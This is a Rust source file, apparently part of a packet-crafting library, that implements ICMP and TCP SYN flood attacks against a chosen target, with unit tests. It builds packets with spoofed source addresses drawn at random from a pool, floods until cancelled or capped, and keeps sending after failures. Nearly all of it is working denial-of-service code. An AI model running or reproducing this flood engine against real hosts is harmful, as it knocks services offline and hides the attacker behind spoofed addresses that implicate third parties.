use rand::Rng;
use rand::seq::IndexedRandom;
use serde::Deserialize;
use serde::Serialize;
use std::fmt;
use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::sync::atomic::Ordering;
use tracing::debug;
use tracing::error;
use tracing::info;
use tracing::warn;

pub mod icmp;
pub mod tcp;

use crate::channel::ChannelMode;
use crate::channel::RawChannel;
use crate::channel::RawSender;
use crate::error::PktforgeError;
use crate::layer::ICMP_HEADER_SIZE;
use crate::layer::IPV4_HEADER_SIZE;
use crate::layer::IPV4_MAX_DATAGRAM_SIZE;
use crate::layer::RawBuffer;
use crate::layer::TCP_HEADER_SIZE;
use crate::utils::find_source_addr;
use crate::utils::process_identifier;

use icmp::IcmpFloodTemplate;
use tcp::SynFloodTemplate;

pub const DEFAULT_TTL: u8 = 255;
pub const DEFAULT_IP_ID: u16 = 12345;
pub const DEFAULT_DST_PORT: u16 = 80;
pub const DEFAULT_REPORT_EVERY: u64 = 10_000;

/// Builds the packet of one flood iteration. Everything that does not vary is
/// laid down once at construction; `next_packet` writes the per-packet fields
/// and refinalizes both checksums before handing the bytes out.
pub trait FloodTemplate {
    fn protocol(&self) -> u8;
    fn next_packet<R: Rng + ?Sized>(
        &mut self,
        src_ipv4: Ipv4Addr,
        rng: &mut R,
    ) -> Result<&[u8], PktforgeError>;
}

/// Candidate spoofed source addresses, picked uniformly with replacement.
/// Serialized as a bare address list; an empty list is rejected on load.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "Vec<Ipv4Addr>", into = "Vec<Ipv4Addr>")]
pub struct SpoofPool {
    addrs: Vec<Ipv4Addr>,
}

impl SpoofPool {
    pub fn new(addrs: Vec<Ipv4Addr>) -> Result<SpoofPool, PktforgeError> {
        if addrs.is_empty() {
            return Err(PktforgeError::InvalidConfiguration {
                reason: String::from("spoof pool is empty"),
            });
        }
        Ok(SpoofPool { addrs })
    }
    pub fn len(&self) -> usize {
        self.addrs.len()
    }
    pub fn is_empty(&self) -> bool {
        self.addrs.is_empty()
    }
    pub fn addrs(&self) -> &[Ipv4Addr] {
        &self.addrs
    }
    pub fn pick<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<Ipv4Addr> {
        self.addrs.choose(rng).copied()
    }
}

impl TryFrom<Vec<Ipv4Addr>> for SpoofPool {
    type Error = PktforgeError;
    fn try_from(addrs: Vec<Ipv4Addr>) -> Result<SpoofPool, PktforgeError> {
        SpoofPool::new(addrs)
    }
}

impl From<SpoofPool> for Vec<Ipv4Addr> {
    fn from(pool: SpoofPool) -> Vec<Ipv4Addr> {
        pool.addrs
    }
}

/// Cooperative stop signal, polled once per flood iteration.
#[derive(Debug, Clone, Default)]
pub struct CancelToken {
    flag: Arc<AtomicBool>,
}

impl CancelToken {
    pub fn new() -> CancelToken {
        CancelToken::default()
    }
    pub fn cancel(&self) {
        self.flag.store(true, Ordering::SeqCst);
    }
    pub fn is_cancelled(&self) -> bool {
        self.flag.load(Ordering::SeqCst)
    }
    /// The raw flag, for registering with a signal handler.
    pub fn flag(&self) -> Arc<AtomicBool> {
        self.flag.clone()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FloodKind {
    Icmp,
    Syn,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct FloodConfig {
    pub target: Ipv4Addr,
    pub kind: FloodKind,
    pub spoof_pool: Option<Vec<Ipv4Addr>>,
    /// Source used when not spoofing, found from the interfaces when unset.
    pub source: Option<Ipv4Addr>,
    pub ttl: u8,
    pub ip_id: u16,
    pub dst_port: u16,
    pub payload_len: usize,
    /// 0 floods until cancelled.
    pub max_packets: u64,
    pub report_every: u64,
}

impl Default for FloodConfig {
    fn default() -> FloodConfig {
        FloodConfig {
            target: Ipv4Addr::UNSPECIFIED,
            kind: FloodKind::Icmp,
            spoof_pool: None,
            source: None,
            ttl: DEFAULT_TTL,
            ip_id: DEFAULT_IP_ID,
            dst_port: DEFAULT_DST_PORT,
            payload_len: 0,
            max_packets: 0,
            report_every: DEFAULT_REPORT_EVERY,
        }
    }
}

impl FloodConfig {
    pub fn new(target: Ipv4Addr, kind: FloodKind) -> FloodConfig {
        FloodConfig {
            target,
            kind,
            ..Default::default()
        }
    }
    pub fn from_json_file<P: AsRef<Path>>(path: P) -> Result<FloodConfig, PktforgeError> {
        let content = fs::read_to_string(path)?;
        let config: FloodConfig = serde_json::from_str(&content)?;
        Ok(config)
    }
    pub fn validate(&self) -> Result<(), PktforgeError> {
        if self.target.is_unspecified() {
            return Err(PktforgeError::InvalidConfiguration {
                reason: String::from("flood target is not set"),
            });
        }
        if let Some(pool) = &self.spoof_pool {
            if pool.is_empty() {
                return Err(PktforgeError::InvalidConfiguration {
                    reason: String::from("spoof pool is empty"),
                });
            }
        }
        let l4_header = match self.kind {
            FloodKind::Icmp => ICMP_HEADER_SIZE,
            FloodKind::Syn => TCP_HEADER_SIZE,
        };
        let max_payload = IPV4_MAX_DATAGRAM_SIZE - IPV4_HEADER_SIZE - l4_header;
        if self.payload_len > max_payload {
            return Err(PktforgeError::InvalidConfiguration {
                reason: format!(
                    "payload length {} exceeds the maximum of {}",
                    self.payload_len, max_payload
                ),
            });
        }
        if self.report_every == 0 {
            return Err(PktforgeError::InvalidConfiguration {
                reason: String::from("report interval must be positive"),
            });
        }
        Ok(())
    }
    pub fn spoof_pool(&self) -> Result<Option<SpoofPool>, PktforgeError> {
        match &self.spoof_pool {
            Some(addrs) => Ok(Some(SpoofPool::new(addrs.clone())?)),
            None => Ok(None),
        }
    }
}

#[derive(Debug, Clone)]
pub enum SourcePolicy {
    Fixed(Ipv4Addr),
    Spoof(SpoofPool),
}

impl SourcePolicy {
    fn next<R: Rng + ?Sized>(&self, rng: &mut R) -> Result<Ipv4Addr, PktforgeError> {
        match self {
            SourcePolicy::Fixed(addr) => Ok(*addr),
            SourcePolicy::Spoof(pool) => match pool.pick(rng) {
                Some(addr) => Ok(addr),
                None => Err(PktforgeError::InvalidConfiguration {
                    reason: String::from("spoof pool is empty"),
                }),
            },
        }
    }
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct FloodStats {
    pub attempted: u64,
    pub sent: u64,
    pub failed: u64,
    pub bytes: u64,
}

impl fmt::Display for FloodStats {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        write!(
            f,
            "attempted {} packets, sent {}, failed {}, {} bytes",
            self.attempted, self.sent, self.failed, self.bytes
        )
    }
}

/// One finalized packet per step, until cancelled or `max_packets` is reached.
pub struct FloodPackets<T: FloodTemplate, R: Rng> {
    template: T,
    source: SourcePolicy,
    rng: R,
    cancel: CancelToken,
    max_packets: u64,
    built: u64,
}

impl<T: FloodTemplate, R: Rng> FloodPackets<T, R> {
    pub fn new(
        template: T,
        source: SourcePolicy,
        rng: R,
        cancel: CancelToken,
        max_packets: u64,
    ) -> FloodPackets<T, R> {
        FloodPackets {
            template,
            source,
            rng,
            cancel,
            max_packets,
            built: 0,
        }
    }
}

impl<T: FloodTemplate, R: Rng> Iterator for FloodPackets<T, R> {
    type Item = Result<RawBuffer, PktforgeError>;
    fn next(&mut self) -> Option<Self::Item> {
        if self.cancel.is_cancelled() {
            debug!("flood cancelled after {} packets", self.built);
            return None;
        }
        if self.max_packets > 0 && self.built >= self.max_packets {
            return None;
        }
        self.built += 1;
        let src_ipv4 = match self.source.next(&mut self.rng) {
            Ok(src_ipv4) => src_ipv4,
            Err(e) => return Some(Err(e)),
        };
        match self.template.next_packet(src_ipv4, &mut self.rng) {
            Ok(packet) => Some(Ok(RawBuffer::from(packet.to_vec()))),
            Err(e) => Some(Err(e)),
        }
    }
}

/// Send every packet the iterator yields. A failed send is logged and the
/// loop carries on; a packet that can not be built ends the session.
/// The sender is consumed and released exactly once on return.
pub fn run_flood<S, I>(
    mut sender: S,
    packets: I,
    dst_ipv4: Ipv4Addr,
    report_every: u64,
) -> Result<FloodStats, PktforgeError>
where
    S: RawSender,
    I: Iterator<Item = Result<RawBuffer, PktforgeError>>,
{
    let mut stats = FloodStats::default();
    for packet in packets {
        let packet = packet?;
        stats.attempted += 1;
        match sender.send_to(packet.as_slice(), dst_ipv4) {
            Ok(n) => {
                stats.sent += 1;
                stats.bytes += n as u64;
            }
            Err(e) => {
                stats.failed += 1;
                error!("flood packet {} failed: {}", stats.attempted, e);
            }
        }
        if report_every > 0 && stats.attempted % report_every == 0 {
            info!("send {} packet", stats.attempted);
        }
    }
    drop(sender);
    info!("flood to {} finished, {}", dst_ipv4, stats);
    Ok(stats)
}

fn source_policy(config: &FloodConfig) -> Result<SourcePolicy, PktforgeError> {
    if let Some(pool) = config.spoof_pool()? {
        debug!("spoof source from pool of {} addresses", pool.len());
        return Ok(SourcePolicy::Spoof(pool));
    }
    if let Some(src_ipv4) = config.source {
        return Ok(SourcePolicy::Fixed(src_ipv4));
    }
    match find_source_addr(config.target) {
        Some(src_ipv4) => Ok(SourcePolicy::Fixed(src_ipv4)),
        None => match config.kind {
            // with a zero source the kernel fills in its own
            FloodKind::Icmp => {
                warn!("no local source found, let the kernel fill it in");
                Ok(SourcePolicy::Fixed(Ipv4Addr::UNSPECIFIED))
            }
            // the pseudo-header checksum needs the real source
            FloodKind::Syn => Err(PktforgeError::InvalidConfiguration {
                reason: format!("can not find a source address toward {}", config.target),
            }),
        },
    }
}

fn flood_with<T: FloodTemplate>(
    template: T,
    config: &FloodConfig,
    cancel: &CancelToken,
) -> Result<FloodStats, PktforgeError> {
    let source = source_policy(config)?;
    let channel = RawChannel::open(ChannelMode::HeaderIncluded, template.protocol())?;
    let packets = FloodPackets::new(
        template,
        source,
        rand::rng(),
        cancel.clone(),
        config.max_packets,
    );
    info!("start {:?} flood to {}", config.kind, config.target);
    run_flood(channel, packets, config.target, config.report_every)
}

pub fn icmp_flood(config: &FloodConfig, cancel: &CancelToken) -> Result<FloodStats, PktforgeError> {
    config.validate()?;
    let template = IcmpFloodTemplate::new(
        config.target,
        config.ttl,
        config.ip_id,
        process_identifier(),
        config.payload_len,
    )?;
    flood_with(template, config, cancel)
}

pub fn tcp_syn_flood(
    config: &FloodConfig,
    cancel: &CancelToken,
) -> Result<FloodStats, PktforgeError> {
    config.validate()?;
    let template = SynFloodTemplate::new(
        config.target,
        config.dst_port,
        config.ttl,
        config.ip_id,
        config.payload_len,
    )?;
    flood_with(template, config, cancel)
}

pub fn flood(config: &FloodConfig, cancel: &CancelToken) -> Result<FloodStats, PktforgeError> {
    match config.kind {
        FloodKind::Icmp => icmp_flood(config, cancel),
        FloodKind::Syn => tcp_syn_flood(config, cancel),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::channel::mock::MockSender;
    use crate::checksum::checksum;
    use crate::layer::decode_icmp_echo;
    use crate::layer::decode_ipv4;
    use rand::SeedableRng;
    use rand::rngs::StdRng;
    use std::collections::HashSet;

    fn pool4() -> SpoofPool {
        SpoofPool::new(vec![
            Ipv4Addr::new(10, 0, 0, 3),
            Ipv4Addr::new(10, 0, 0, 4),
            Ipv4Addr::new(10, 0, 0, 5),
            Ipv4Addr::new(10, 0, 0, 6),
        ])
        .unwrap()
    }

    fn icmp_template() -> IcmpFloodTemplate {
        IcmpFloodTemplate::new(Ipv4Addr::new(10, 0, 0, 2), 255, 12345, 0x4242, 0).unwrap()
    }

    #[test]
    fn test_empty_spoof_pool() {
        assert!(matches!(
            SpoofPool::new(vec![]),
            Err(PktforgeError::InvalidConfiguration { .. })
        ));
        let mut config = FloodConfig::new(Ipv4Addr::new(10, 0, 0, 2), FloodKind::Icmp);
        config.spoof_pool = Some(vec![]);
        assert!(config.validate().is_err());
        // fails before any channel is opened
        assert!(matches!(
            icmp_flood(&config, &CancelToken::new()),
            Err(PktforgeError::InvalidConfiguration { .. })
        ));
    }
    #[test]
    fn test_config_validate() {
        let config = FloodConfig::default();
        assert!(config.validate().is_err());
        let mut config = FloodConfig::new(Ipv4Addr::new(10, 0, 0, 2), FloodKind::Syn);
        assert!(config.validate().is_ok());
        config.payload_len = 65535 - 40 + 1;
        assert!(config.validate().is_err());
        config.payload_len = 0;
        config.report_every = 0;
        assert!(config.validate().is_err());
    }
    #[test]
    fn test_config_from_json() {
        let json = r#"{"target": "10.0.0.2", "kind": "syn", "spoof_pool": ["10.0.0.3"], "dst_port": 443}"#;
        let config: FloodConfig = serde_json::from_str(json).unwrap();
        assert_eq!(config.kind, FloodKind::Syn);
        assert_eq!(config.dst_port, 443);
        assert_eq!(config.ttl, DEFAULT_TTL);
        assert_eq!(config.spoof_pool().unwrap().unwrap().len(), 1);
    }
    #[test]
    fn test_spoof_pool_from_json() {
        let ret = serde_json::from_str::<SpoofPool>("[]");
        assert!(ret.is_err());
        let ret = serde_json::from_str::<SpoofPool>(r#"{"addrs": []}"#);
        assert!(ret.is_err());
        let pool: SpoofPool = serde_json::from_str(r#"["10.0.0.3", "10.0.0.4"]"#).unwrap();
        assert_eq!(pool.len(), 2);
        let mut rng = StdRng::seed_from_u64(3);
        assert!(pool.addrs().contains(&pool.pick(&mut rng).unwrap()));
        assert_eq!(
            serde_json::to_string(&pool).unwrap(),
            r#"["10.0.0.3","10.0.0.4"]"#
        );
    }
    #[test]
    fn test_spoof_pool_coverage() {
        let pool = pool4();
        let mut rng = StdRng::seed_from_u64(12);
        let mut seen = HashSet::new();
        for _ in 0..400 {
            let addr = pool.pick(&mut rng).unwrap();
            assert!(pool.addrs().contains(&addr));
            seen.insert(addr);
        }
        assert_eq!(seen.len(), 4);
    }
    #[test]
    fn test_flood_cancel_after_n() {
        let cancel = CancelToken::new();
        let mut sender = MockSender::new();
        sender.cancel_after = Some((25, cancel.clone()));
        let sent = sender.sent.clone();
        let drops = sender.drops.clone();
        let dst = Ipv4Addr::new(10, 0, 0, 2);
        let packets = FloodPackets::new(
            icmp_template(),
            SourcePolicy::Spoof(pool4()),
            StdRng::seed_from_u64(1),
            cancel.clone(),
            0,
        );
        let stats = run_flood(sender, packets, dst, 10).unwrap();
        assert_eq!(stats.attempted, 25);
        assert_eq!(stats.sent, 25);
        assert_eq!(sent.borrow().len(), 25);
        assert_eq!(drops.get(), 1);

        let pool = pool4();
        for (to, packet) in sent.borrow().iter() {
            assert_eq!(*to, dst);
            assert_eq!(checksum(packet, IPV4_HEADER_SIZE), 0);
            assert_eq!(checksum(&packet[IPV4_HEADER_SIZE..], packet.len() - IPV4_HEADER_SIZE), 0);
            let ip = decode_ipv4(packet).unwrap();
            assert!(pool.addrs().contains(&ip.source));
            assert_eq!(ip.destination, dst);
            assert_eq!(ip.ttl, 255);
            assert_eq!(ip.identification, 12345);
            let (echo, _) = decode_icmp_echo(&packet[IPV4_HEADER_SIZE..]).unwrap();
            assert_eq!(echo.identifier, 0x4242);
        }
    }
    #[test]
    fn test_flood_continues_after_failure() {
        let mut sender = MockSender::new();
        sender.fail_when = |i| i % 3 == 0;
        let drops = sender.drops.clone();
        let packets = FloodPackets::new(
            icmp_template(),
            SourcePolicy::Fixed(Ipv4Addr::new(10, 0, 0, 1)),
            StdRng::seed_from_u64(2),
            CancelToken::new(),
            30,
        );
        let stats = run_flood(sender, packets, Ipv4Addr::new(10, 0, 0, 2), 10).unwrap();
        assert_eq!(stats.attempted, 30);
        assert_eq!(stats.failed, 10);
        assert_eq!(stats.sent, 20);
        assert_eq!(stats.bytes, 20 * 28);
        assert_eq!(drops.get(), 1);
    }
    #[test]
    fn test_cancelled_before_start() {
        let cancel = CancelToken::new();
        cancel.cancel();
        let sender = MockSender::new();
        let drops = sender.drops.clone();
        let packets = FloodPackets::new(
            icmp_template(),
            SourcePolicy::Fixed(Ipv4Addr::new(10, 0, 0, 1)),
            StdRng::seed_from_u64(3),
            cancel,
            0,
        );
        let stats = run_flood(sender, packets, Ipv4Addr::new(10, 0, 0, 2), 10).unwrap();
        assert_eq!(stats, FloodStats::default());
        assert_eq!(drops.get(), 1);
    }
    #[test]
    fn test_sequence_spread() {
        let mut packets = FloodPackets::new(
            icmp_template(),
            SourcePolicy::Fixed(Ipv4Addr::new(10, 0, 0, 1)),
            StdRng::seed_from_u64(4),
            CancelToken::new(),
            200,
        );
        let mut seqs = HashSet::new();
        for packet in packets.by_ref() {
            let packet = packet.unwrap();
            let (echo, _) = decode_icmp_echo(&packet.as_slice()[IPV4_HEADER_SIZE..]).unwrap();
            seqs.insert(echo.sequence);
        }
        assert!(seqs.len() > 150);
        assert!(packets.next().is_none());
    }
}
